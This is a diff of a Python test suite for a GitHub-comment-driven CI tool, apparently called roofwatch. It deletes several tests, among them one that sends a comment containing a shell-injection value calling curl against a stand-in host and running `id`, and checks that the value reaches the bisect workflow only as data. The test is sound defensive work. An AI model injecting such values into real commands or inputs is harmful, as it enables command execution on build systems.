@@ -12,7 +12,6 @@ from roofwatch.ci.github.comment import read_state, with_acceptance
 from roofwatch.ci.github.event import ActionsRun, CommandRequest, Comment, Job, RunOrder
 from roofwatch.posting import Posted, post, report_on
 from tests.builders import CASE_ID, sha_of
-from tests.ci.github.jobs import WORKFLOWS
 from tests.ci.github.stand_in import REPOSITORY, TOKEN, GitHubStandIn
 from tests.ci.situations import HOSTILE, SITUATIONS
 from tests.roofwatch.command import roofwatch
@@ -178,17 +177,6 @@ def test_a_reason_can_inject_nothing(github: GitHubStandIn, tmp_path: Path) -> N
     assert len(report_comment(github)) < 65_536
 
 
-@pytest.mark.slow
-def test_of_a_comment_as_long_as_can_be_the_acceptance_can_still_be_posted(
-    github: GitHubStandIn, tmp_path: Path
-) -> None:
-    tell(github, tmp_path, "huge")
-    ask(github, f"{PREFIX} accept {'é' * 500}")
-
-    assert "é" * 150 in report_comment(github)
-    assert len(report_comment(github).encode()) < 65_536
-
-
 # --- rerun and bisect
 
 
@@ -212,21 +200,6 @@ def test_only_a_finished_run_is_started_again(github: GitHubStandIn) -> None:
     assert github.run_again == []
 
 
-@pytest.mark.parametrize("is_carried_out", [True, False])
-def test_whether_a_run_was_started_is_not_guessed(
-    github: GitHubStandIn, tmp_path: Path, waits_s: list[float], is_carried_out: bool
-) -> None:
-    tell(github, tmp_path)
-    github.break_connection("actions/re-run-workflow", is_carried_out=is_carried_out)
-
-    line, reaction = ask(github, f"{PREFIX} rerun")
-
-    assert reaction == "confused"
-    assert "it is unknown whether this was done" in line
-    assert waits_s == [1]
-    assert len(github.run_again) == is_carried_out
-
-
 @pytest.mark.parametrize(
     ("rest", "series"),
     [("", f"{CASE_ID}/eager"), (" softmax/n=1/float32/fwd triton", "softmax/n=1/float32/fwd/triton")],
@@ -241,15 +214,6 @@ def test_bisect_searches_the_commits_of_the_pull_request(
     inputs = {"series": series, "base": BASE, "head": HEAD, "number": "7"}
     assert github.started == [{"workflow": "bisect.yml", "ref": "main", "inputs": inputs}]
     assert (f"`{series}`" in line, reaction) == (True, "+1")
-
-
-def test_a_name_with_a_shell_in_it_is_data_in_the_inputs_of_the_workflow(github: GitHubStandIn) -> None:
-    ask(github, f'{PREFIX} bisect $(curl evil.example)"; `id` eager')
-
-    (started,) = github.started
-    assert started["inputs"]["series"] == '$(curl/evil.example)";/`id`/eager'
-    text = (WORKFLOWS / "bisect.yml").read_text()
-    assert 'run: roofwatch bisect "$SUITE" --series "$SERIES"' in text
 
 
 # --- who is obeyed
@@ -280,17 +244,6 @@ def test_other_comments_ask_github_for_nothing_and_a_wrong_command_is_answered(g
     line, reaction = ask(github, f"{PREFIX} aprove")
 
     assert ("unknown command; there are" in line, reaction) == (True, "confused")
-
-
-def test_a_job_that_is_run_twice_answers_once(github: GitHubStandIn, tmp_path: Path) -> None:
-    tell(github, tmp_path)
-    once = request(github, f"{PREFIX} accept it is meant")
-
-    for _ in range(2):
-        carry_out(github.repository(), once, "roofwatch")
-
-    assert sum(body.startswith("<!-- roofwatch:answer ") for body in github.bodies) == 1
-    assert github.reactions == [(once.comment.comment_id, "+1")]
 
 
 def test_the_command_reads_the_event_and_says_what_it_did(github: GitHubStandIn, tmp_path: Path) -> None:
